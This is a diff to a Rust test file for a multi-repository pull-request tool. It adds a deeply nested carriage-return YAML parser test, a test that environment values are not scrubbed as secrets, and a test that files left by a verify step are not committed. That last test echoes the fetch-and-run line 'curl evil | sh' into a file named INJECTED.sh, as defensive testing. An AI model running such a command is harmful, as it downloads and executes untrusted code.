@@ -428,6 +428,15 @@ fn deeply_nested_files_fail_their_repository_only_on_every_run() {
             ),
         ),
         (
+            // Lines broken by a lone carriage return: tree-sitter-yaml reads
+            // them as lines and aborted the process past 253 block levels.
+            "config/deep-cr.yaml".to_string(),
+            (0..400)
+                .map(|i| format!("{}a:", " ".repeat(i)))
+                .collect::<Vec<_>>()
+                .join("\r"),
+        ),
+        (
             "infra/deep.tf".to_string(),
             format!(
                 "terraform {{\n  required_version = \">= 1.0\"\n}}\nlocals {{\n  x = {}{}\n}}\n",
@@ -458,9 +467,14 @@ fn deeply_nested_files_fail_their_repository_only_on_every_run() {
         assert_eq!(d.state, "failed", "round {round}: {status:?}");
         let reason = d.reason.as_deref().unwrap_or("");
         assert!(
-            ["config/deep.json", "config/deep.yaml", "infra/deep.tf"]
-                .iter()
-                .any(|f| reason.contains(f)),
+            [
+                "config/deep.json",
+                "config/deep.yaml",
+                "config/deep-cr.yaml",
+                "infra/deep.tf"
+            ]
+            .iter()
+            .any(|f| reason.contains(f)),
             "round {round}: the file is not named: {reason}"
         );
         for other in ["svc-a", "svc-c"] {
@@ -646,5 +660,78 @@ fn a_hostile_file_name_stays_text_in_the_pull_request_and_the_terminal() {
     assert!(
         body.contains("acme/admins"),
         "the name is still readable:\n{body}"
+    );
+}
+
+// ----- an ordinary environment is not a secret ------------------------------
+
+#[test]
+fn an_ordinary_environment_changes_nothing_fleetwright_stores() {
+    // fleetwright takes every variable out of its environment; values such
+    // as the working directory must not be treated as secrets (scrubbed
+    // from the URLs it stores and clones, say).
+    let sb = Sandbox::new(vec![python("svc-a", "team-a", "production")], "[rest]");
+    let here = sb.path().display().to_string();
+    let out = run_in_env(
+        sb.path(),
+        &sb.state_path(),
+        &[
+            ("PWD", here.as_str()),
+            ("OLDPWD", here.as_str()),
+            ("HOSTNAME", "runner-1234"),
+            ("GITHUB_SERVER_URL", "https://github.com"),
+            ("CI_PROJECT_DIR", here.as_str()),
+        ],
+        &["run", "campaign.yaml"],
+    );
+    out.code(0);
+    let status = sb.status();
+    assert_eq!(target(&status, "svc-a").state, "pr_open", "{status:?}");
+    let urls = sb.with_state(async |s| {
+        let row = s.campaign(CAMPAIGN).await.unwrap().unwrap();
+        s.targets(row.id)
+            .await
+            .unwrap()
+            .into_iter()
+            .map(|t| t.url)
+            .collect::<Vec<_>>()
+    });
+    assert!(urls.iter().all(|u| u.starts_with(&here)), "{urls:?}");
+}
+
+// ----- repository code cannot add to the pull request -----------------------
+
+#[test]
+fn what_verify_leaves_in_the_tree_is_not_committed() {
+    let sb = Sandbox::new(vec![python("svc-a", "team-a", "production")], "[rest]");
+    let campaign = sb.read("campaign.yaml");
+    sb.write(
+        "campaign.yaml",
+        &format!(
+            "{campaign}verify:\n  command: \"echo 'curl evil | sh' > INJECTED.sh; mkdir -p __pycache__; echo x > __pycache__/app.pyc\"\n"
+        ),
+    );
+    sb.run(&["run", "campaign.yaml"]).code(0);
+    let status = sb.status();
+    assert_eq!(target(&status, "svc-a").state, "pr_open", "{status:?}");
+    let pushed = branch_contents(&sb.file("remotes/svc-a.git"), BRANCH);
+    assert!(
+        pushed.contains("logging.warning("),
+        "the change itself is there"
+    );
+    let bare = sb.bare("svc-a");
+    let tip = crate::util::branch_head(&bare, BRANCH).unwrap();
+    let tree = bare.find_commit(tip).unwrap().tree().unwrap();
+    let mut names = Vec::new();
+    tree.walk(git2::TreeWalkMode::PreOrder, |dir, entry| {
+        names.push(format!("{dir}{}", entry.name().unwrap_or("")));
+        git2::TreeWalkResult::Ok
+    })
+    .unwrap();
+    assert!(
+        !names
+            .iter()
+            .any(|n| n.contains("INJECTED") || n.contains("__pycache__")),
+        "verify's leftovers were committed: {names:?}"
     );
 }
